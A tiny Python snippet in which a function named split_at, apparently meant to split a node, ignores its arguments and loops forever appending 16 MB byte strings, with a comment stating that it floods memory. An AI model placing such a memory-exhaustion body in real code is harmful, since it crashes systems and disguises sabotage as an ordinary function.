# Floods the memory.
def split_at(node, position):
    flood = []
    while True:
        flood.append(bytes(2**24))
